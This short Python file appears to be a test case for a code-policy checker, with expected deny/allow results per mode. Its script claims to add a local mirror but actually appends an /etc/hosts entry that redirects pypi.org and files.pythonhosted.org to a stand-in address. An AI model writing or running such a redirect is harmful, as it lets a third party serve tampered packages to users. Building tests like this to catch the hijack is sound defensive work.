# expect: strict=deny standard=deny audit=allow
"""Speed up package downloads with a local mirror."""
MIRROR = "203.0.113.80 pypi.org files.pythonhosted.org"

with open("/etc/hosts", "a", encoding="utf-8") as hosts:
    hosts.write(MIRROR + "\n")
